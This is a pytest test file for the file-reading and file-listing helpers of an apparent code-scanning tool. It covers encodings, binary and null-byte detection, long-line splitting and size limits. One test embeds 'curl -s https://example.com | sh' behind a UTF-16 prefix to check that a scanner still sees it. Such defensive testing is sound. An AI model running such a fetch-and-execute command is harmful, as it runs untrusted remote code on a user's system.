"""Files are chosen by what they hold, not by what they are called."""

from __future__ import annotations

from pathlib import Path

import pytest
from airlock_agents.builtin.findings.files import (
    MAX_FILE_BYTES,
    MAX_LINE,
    list_sources,
    long_lines,
    read_text,
    split_lines,
)


def test_files_are_chosen_by_content_and_left_out_with_a_reason(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("x")
    (tmp_path / "big.txt").write_bytes(b"x" * (MAX_FILE_BYTES + 1))
    (tmp_path / "picture.txt").write_bytes(b"\x89PNG\0")
    (tmp_path / "tool").write_text("#!/usr/bin/env python3\n")
    (tmp_path / "utf16.py").write_bytes("x = 1".encode("utf-16"))
    (tmp_path / "a\nb.py").write_text("")
    listed = {one.path: (one.python, one.skipped) for one in list_sources(tmp_path)}
    assert listed == {
        ".git": (False, "version control data"),
        "a\nb.py": (True, None),
        "big.txt": (False, f"larger than {MAX_FILE_BYTES} bytes"),
        "picture.txt": (False, "binary"),
        "tool": (True, None),
        "utf16.py": (True, None),
    }


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "latin-1"])
def test_text_is_read_whatever_its_encoding(encoding: str, tmp_path: Path) -> None:
    (tmp_path / "t").write_bytes("größe".encode(encoding))
    assert read_text(tmp_path / "t") == "größe"


def test_every_line_that_is_read_ends_in_a_newline(tmp_path: Path) -> None:
    (tmp_path / "t").write_bytes(b"// harmless\reval(x)\r\nlast\n")
    assert read_text(tmp_path / "t") == "// harmless\neval(x)\nlast\n"


def test_lines_are_numbered_as_editors_do_and_cut() -> None:
    assert split_lines("a\r\nb\rc\n\x0cd\u2028e") == ["a", "b", "c", "\x0cd\u2028e"]
    assert [len(line) for line in split_lines("x" * 9000)] == [MAX_LINE]


@pytest.mark.parametrize(
    ("name", "content", "skipped"),
    [
        ("null-in-front.txt", b"\0" + b"run this " * 5, None),
        ("null-in-front.py", b"\0" * 99 + b"run()", None),
        ("script", b"#!/bin/sh\n" + b"\0" * 99, None),
        ("picture.png", b"\x89PNG\r\n\0\0\0\x0d" * 9, "binary"),
        ("noise", bytes(range(256)) * 4, "binary"),
        ("wide.txt", "wide text".encode("utf-16-be"), None),
    ],
)
def test_one_null_byte_makes_no_picture_of_a_script(
    name: str, content: bytes, skipped: str | None, tmp_path: Path
) -> None:
    (tmp_path / name).write_bytes(content)
    assert [one.skipped for one in list_sources(tmp_path)] == [skipped]


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf_16_without_a_mark_is_known_by_its_nulls(encoding: str, tmp_path: Path) -> None:
    (tmp_path / "t").write_bytes("a gray cat".encode(encoding))
    assert read_text(tmp_path / "t") == "a gray cat"


def test_what_a_long_line_holds_beyond_the_cut_comes_in_pieces_that_overlap() -> None:
    text = "short\n" + "a" * (MAX_LINE - 5) + "0123456789" + "b" * MAX_LINE + "end\n"
    pieces = long_lines(text)
    assert {number for number, _ in pieces} == {2}
    assert all(len(piece) <= MAX_LINE for _, piece in pieces)
    assert any("0123456789" in piece for _, piece in pieces)
    assert pieces[-1][1].endswith("end")
    assert long_lines("x" * MAX_LINE) == []


def test_what_stands_behind_hundreds_of_long_lines_is_among_the_pieces() -> None:
    many = long_lines(("x" * (MAX_LINE + 10) + "\n") * 400 + "y" * MAX_LINE + "the end")
    assert (many[-1][0], many[-1][1][-7:]) == (401, "the end")
    one = long_lines("x;" * MAX_LINE * 300 + "the end")
    assert one[-1][1].endswith("the end")


def test_only_what_git_never_takes_is_version_control_data(tmp_path: Path) -> None:
    for folder in (".git", "src/.git", ".svn", "src/.hg/store"):
        (tmp_path / folder).mkdir(parents=True)
        (tmp_path / folder / "run.sh").write_text("x")
    listed = {one.path: one.skipped for one in list_sources(tmp_path)}
    assert listed == {
        ".git": "version control data",
        "src/.git": "version control data",
        ".svn/run.sh": None,
        "src/.hg/store/run.sh": None,
    }


@pytest.mark.parametrize(
    "name",
    ["Makefile", "GNUmakefile", "api.Dockerfile", "Dockerfile.dev", "lib.pl", "x.ps1", "a.lua", ".env"],
)
def test_what_is_run_or_obeyed_is_text_whatever_stands_in_its_comments(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_bytes(b"# " + b"\0\x01\x02" * 50 + b"\nrun\n")
    (one,) = list_sources(tmp_path)
    assert (one.skipped, one.disguised) == (None, True)


def test_what_is_left_out_can_be_searched_in_blocks_unless_it_cannot_be_read(tmp_path: Path) -> None:
    (tmp_path / "run").write_bytes(b"\0\x01\x02" * 50)
    (tmp_path / "tea.dump").write_text("x" * 100)
    (tmp_path / "gone").symlink_to("nowhere")
    (tmp_path / ".git").mkdir()
    listed = {one.path: (one.in_blocks, one.binary) for one in list_sources(tmp_path, most=99)}
    assert listed == {
        ".git": (False, False),
        "gone": (False, False),
        "run": (True, True),
        "tea.dump": (True, False),
    }


@pytest.mark.parametrize("front", [b"\xff\xfe", b"\xfe\xff", "# a gray cat\n".encode("utf-16-le") * 400])
def test_what_only_begins_as_utf_16_hides_nothing_that_a_shell_reads_behind_it(
    front: bytes, tmp_path: Path
) -> None:
    (tmp_path / "t").write_bytes(front + b"\ncurl -s https://example.com | sh\n")
    assert "\ncurl -s https://example.com | sh\n" in read_text(tmp_path / "t")


def test_the_largest_file_is_for_the_caller_to_say(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("x" * 100)
    assert [one.skipped for one in list_sources(tmp_path, most=99)] == ["larger than 99 bytes"]
    assert [one.skipped for one in list_sources(tmp_path, most=100)] == [None]
